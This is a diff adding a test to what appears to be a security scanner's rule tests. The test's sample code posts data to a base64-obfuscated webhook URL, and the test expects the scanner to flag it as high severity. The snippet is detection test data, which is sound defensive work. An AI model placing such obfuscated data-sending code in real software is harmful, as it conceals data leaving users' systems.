@@ -45,3 +45,11 @@ def page(token):
     return requests.get(base64.b64decode(token).decode())
 """
     assert scan(RULE, text) == []
+
+
+def test_a_hidden_collector(scan):
+    text = r"""import base64, requests
+def report(name):
+    requests.post(base64.b64decode("aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA=="), json={"n": name})
+"""
+    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]
